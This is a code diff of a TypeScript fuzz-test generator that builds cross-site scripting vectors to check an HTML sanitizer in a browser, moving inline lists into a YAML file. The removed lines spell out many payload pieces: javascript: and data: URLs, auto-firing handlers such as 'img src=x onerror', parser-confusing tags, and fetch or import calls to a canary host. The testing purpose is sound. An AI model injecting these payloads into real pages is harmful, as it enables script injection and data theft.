@@ -1,7 +1,6 @@
+import { readFileSync } from 'node:fs'
 import fc from 'fast-check'
-
-/** Parts between bars. */
-const split = (text: string) => text.split('¦')
+import { parse } from 'yaml'
 
 /** A page source that tries to run code, load a frame or ask another host. */
 export interface Vector {
@@ -10,31 +9,25 @@ export interface Vector {
   readonly text: string
 }
 
-const list = (words: string) => words.trim().split(/\s+/)
-const oneOf = (...words: readonly string[]) => fc.constantFrom(...words)
-const joined = (...parts: readonly fc.Arbitrary<string>[]) => fc.tuple(...parts).map(all => all.join(''))
-
-/** What the browser notices when it runs: see `vectors.test.ts`. */
-const call = oneOf(
-  'ran()',
-  'ran``',
-  'alert(1)',
-  "self['ran']()",
-  'top.ran()',
-  'setTimeout(ran)',
-  '[1].map(ran)',
-  'new ran',
-  '(ran)?.()',
-  'eval("ran()")',
-  'Function`ran\\x28\\x29```',
-  '\\u0072an()',
-  'kanarie=1',
-  'console.log`ran`',
-  'fetch("https://kanarie.invalid/")',
-  'location="https://kanarie.invalid/"',
-  'import("https://kanarie.invalid/x.js")',
-  'document.body.append(document.createElement("iframe"))',
+const parts: Readonly<Record<string, string | readonly string[]>> = parse(
+  readFileSync('test/browser/vectors.yaml', 'utf8'),
 )
+
+/** A list of vectors.yaml. */
+function listOf(name: string): readonly string[] {
+  const list = parts[name]
+  if (list === undefined) throw new Error(`vectors.yaml has no ${name}`)
+  return typeof list === 'string' ? list.trim().split(/\s+/) : list
+}
+
+const oneOf = (...words: readonly string[]) => fc.constantFrom(...words)
+const oneIn = (...names: readonly string[]) => oneOf(...names.flatMap(listOf))
+const joined = (...all: readonly (string | fc.Arbitrary<string>)[]) =>
+  fc
+    .tuple(...all.map(part => (typeof part === 'string' ? fc.constant(part) : part)))
+    .map(texts => texts.join(''))
+
+const call = oneIn('calls')
 
 /** Letters as a parser takes them, too: other case, references, and what parsers drop or take for the end. */
 const disguised = (words: fc.Arbitrary<string>, most = 11) =>
@@ -57,169 +50,38 @@ const disguises: readonly ((word: string, at: number) => string)[] = [
 ]
 
 const address = fc.oneof(
-  disguised(joined(oneOf('javascript:', 'vbscript:', 'javascript://%0a', 'javascript:/**/'), call)),
-  joined(
-    oneOf('&#1;', '\u0001', ' ', '\u00a0', '\ufeff', '&#x20;', '//', '/\\', '\\\\'),
-    disguised(joined(oneOf('javascript:'), call)),
-  ),
-  joined(
-    oneOf(
-      'feed:',
-      'view-source:',
-      'jar:',
-      'blob:',
-      'filesystem:',
-      'mhtml:',
-      'url:',
-      'java%73cript:',
-      'https:javascript:',
-    ),
-    oneOf('javascript:'),
-    call,
-  ),
-  joined(
-    oneOf('data:text/html,', 'data:image/svg+xml,', 'data:text/html;charset=utf-7,', 'DATA:,'),
-    oneOf('<script>', '%3Cscript%3E'),
-    call,
-    oneOf('</script>'),
-  ),
-  oneOf(
-    'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
-    'data:text/javascript,ran()',
-    '//kanarie.invalid/x',
-    '\\\\kanarie.invalid/x',
-    '/\\kanarie.invalid/x',
-    'https:/kanarie.invalid/x',
-    'https://kanarie.invalid/x.js',
-    'ht\ntps://kanarie.invalid/x',
-    'h&#x9;ttps://kanarie.invalid/x',
-  ),
+  disguised(joined(oneIn('schemes of code'), call)),
+  joined(oneIn('before a scheme'), disguised(joined('javascript:', call))),
+  joined(oneIn('schemes around a scheme'), 'javascript:', call),
+  joined(oneIn('data'), oneIn('script tags'), call, '</script>'),
+  oneIn('addresses'),
 )
 
-const handler = disguised(
-  oneOf(
-    ...list(`onload onerror onclick onfocus onfocusin onblur onmouseover onpointerrawupdate onpointerover ontoggle onbeforetoggle
-      onanimationstart onanimationend ontransitionend ontransitionrun onbegin onend onrepeat onscroll onscrollend onscrollsnapchange
-      onbeforematch oncontentvisibilityautostatechange onsecuritypolicyviolation onslotchange onformdata oninvalid oninput
-      onloadstart oncanplay onpageshow onhashchange onmessage onunhandledrejection onbeforeprint onwebkitanimationstart onresize
-      oncuechange onauxclick oncopy onpaste onbeforeinput onselectionchange onfullscreenchange onwheel onxxx`),
-  ),
-  40,
-)
+const handler = disguised(oneIn('handlers'), 40)
+const addressAttribute = disguised(oneIn('address attributes'), 40)
+const tag = fc.oneof({ weight: 4, arbitrary: oneIn('html') }, { weight: 2, arbitrary: oneIn('svg and math') })
 
-const addressAttribute = disguised(
-  oneOf(
-    ...list(`href src xlink:href action formaction data poster background srcset ping cite longdesc manifest codebase classid profile
-      usemap dynsrc lowsrc from to values content imagesrcset archive icon`),
-  ),
-  40,
-)
-
-const html =
-  list(`a abbr address area article aside audio b base basefont bdo bgsound blink blockquote body br button canvas caption
-  center code col command content details dialog dir div dl embed fencedframe fieldset font form frame frameset h1 head hr html
-  iframe image img input ins isindex kbd keygen label layer li link listing main map mark marquee menu meta meter nav nextid nobr
-  noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress portal q ruby search section
-  select shadow slot source span strong style summary sup table tbody td template textarea th thead time title tr track tt u ul
-  var video wbr x-y xmp xss`)
-const drawn =
-  list(`svg svg:a a animate animateMotion animateTransform set desc foreignObject g image path script style title use
-  handler listener discard feImage filter mpath math maction annotation-xml mglyph malignmark mi mo mn ms mtext semantics xlink`)
-const tag = fc.oneof({ weight: 4, arbitrary: oneOf(...html) }, { weight: 2, arbitrary: oneOf(...drawn) })
-
-const space = oneOf(' ', '/', '\t', '\n', '\f', '/ ', ' \r\n', '  / ', '\u000b', '')
+const space = oneIn('spaces')
 const quoted = (value: fc.Arbitrary<string>) =>
   fc
-    .tuple(value, oneOf('""', "''", '', '``', '""x', "'", '&quot;&quot;', ' ""'))
+    .tuple(value, oneIn('quotes'))
     .map(([text, marks]) => `=${marks.slice(0, marks.length / 2)}${text}${marks.slice(marks.length / 2)}`)
 
+const srcdoc = joined(oneOf('<script>', '&lt;script&gt;', '<svg onload='), call, oneOf('</script>', '>'))
 const attribute = fc.oneof(
   { weight: 4, arbitrary: joined(space, handler, quoted(disguised(call))) },
   { weight: 3, arbitrary: joined(space, addressAttribute, quoted(address)) },
-  {
-    weight: 1,
-    arbitrary: joined(
-      space,
-      oneOf('style'),
-      quoted(
-        joined(
-          oneOf('width:expression(', 'background:url(javascript:', '-moz-binding:url(', 'animation:x;x:('),
-          call,
-          oneOf(')'),
-        ),
-      ),
-    ),
-  },
-  {
-    weight: 1,
-    arbitrary: joined(
-      space,
-      oneOf('srcdoc'),
-      quoted(joined(oneOf('<script>', '&lt;script&gt;', '<svg onload='), call, oneOf('</script>', '>'))),
-    ),
-  },
-  {
-    weight: 2,
-    arbitrary: joined(
-      space,
-      oneOf(
-        'src=x',
-        'src="/assets/logo.svg" alt=""',
-        'href="#a"',
-        'href="/"',
-        'autofocus',
-        'autofocus tabindex=1',
-        'contenteditable',
-        'open',
-        'popover id=p',
-        'type=image',
-        'type="text/html"',
-        'http-equiv=refresh',
-        'rel=import',
-        'rel=stylesheet',
-        'attributeName=href',
-        'attributeName=onload',
-        'is=x-y',
-        'id=a',
-        'name=body',
-        'title="x"',
-        'data-a="b"',
-        'shadowrootmode=open',
-        'encoding="text/html"',
-        'xmlns="http://www.w3.org/1999/xhtml"',
-        'xmlns:x="http://www.w3.org/1999/xhtml"',
-      ),
-    ),
-  },
+  { weight: 1, arbitrary: joined(space, 'style', quoted(joined(oneIn('styles'), call, ')'))) },
+  { weight: 1, arbitrary: joined(space, 'srcdoc', quoted(srcdoc)) },
+  { weight: 2, arbitrary: joined(space, oneIn('other attributes')) },
 )
 const attributes = (least: number, most: number) =>
   fc.array(attribute, { minLength: least, maxLength: most }).map(all => all.join(''))
 
-/** A handler that needs nobody: Chromium calls it as soon as the page is there. */
+/** A handler that needs nobody. */
 const sure = fc
   .tuple(
-    oneOf(
-      ...split('img src=x onerror¦svg onload¦style onload¦body onload¦body onpageshow¦details open ontoggle'),
-      ...[
-        'input autofocus onfocus',
-        'a href=x autofocus onfocus',
-        'x tabindex=1 autofocus onfocus',
-        'iframe onload',
-      ],
-      ...[
-        'video><source onerror',
-        'audio src=x onerror',
-        'svg><image href=x onerror',
-        'object data=x onerror',
-      ],
-      ...[
-        'link rel=stylesheet href=x onerror',
-        'svg><animate attributeName=x dur=1ms onend',
-        'script src=x onerror',
-      ],
-      ...['img srcset=x onerror', 'input type=image src=x onerror', 'embed src=/ onload', 'marquee onstart'],
-      ...['svg><style onload', 'math><style onload', 'p></p><img src onerror'],
-    ),
+    oneIn('sure'),
     oneOf(' ', '/', '\n', '\f'),
     quoted(disguised(call, 30)),
     oneOf('>', ' >', ' />', ' x>'),
@@ -240,42 +102,10 @@ const element = fc
   )
 
 const script = fc
-  .tuple(
-    disguised(
-      oneOf(
-        'script',
-        'svg><script',
-        'script/x',
-        'script type=module',
-        'script src=https://kanarie.invalid/x.js',
-        'style',
-        'math><script',
-      ),
-    ),
-    call,
-    oneOf('', '</script>', '</script\n>', '</ script>', '<!--</script>', '</style>'),
-  )
+  .tuple(disguised(oneIn('scripts')), call, oneIn('script ends'))
   .map(([name, text, end]) => `<${name}>${text}${end}`)
 
-/** What is read once in one way and, written and read again, in another: parts that change what the parser is in. */
-const turn = oneOf(
-  ...list(`<svg> <math> <svg><desc> <svg><title> <svg><foreignObject> <math><mtext> <math><mi> <math><annotation-xml>
-    <mglyph> <malignmark> <style> <title> <textarea> <xmp> <noembed> <noframes> <noscript> <iframe> <plaintext> <listing> <template>
-    <select> <option> <table> <tr> <td> <caption> <colgroup> <form> <p> </p> <a> <b> <i> <font> <button> <li> <dd> <details> <br>
-    </svg> </math> </style> </title> </textarea> </xmp> </noscript> </template> </select> </table> </form> </a> </b> </br>
-    <!-- --> <!--> <!---> --!> <![CDATA[ ]]> <? ?> <!x </x> <h1> <ruby><rt> <frameset> <body> <html> <head> <image>`),
-  '<math><annotation-xml encoding="text/html">',
-  '<font color=a>',
-  '<svg:x>',
-  '<p title="',
-  '<a id="',
-  "<b title='",
-  '<i title=`',
-  '">',
-  "'>",
-  '</style><',
-  '<!doctype a>',
-)
+const turn = oneIn('turns', 'turns with quotes and spaces')
 /** An element in an attribute's value, where reading again may find it. */
 const hidden = fc
   .tuple(
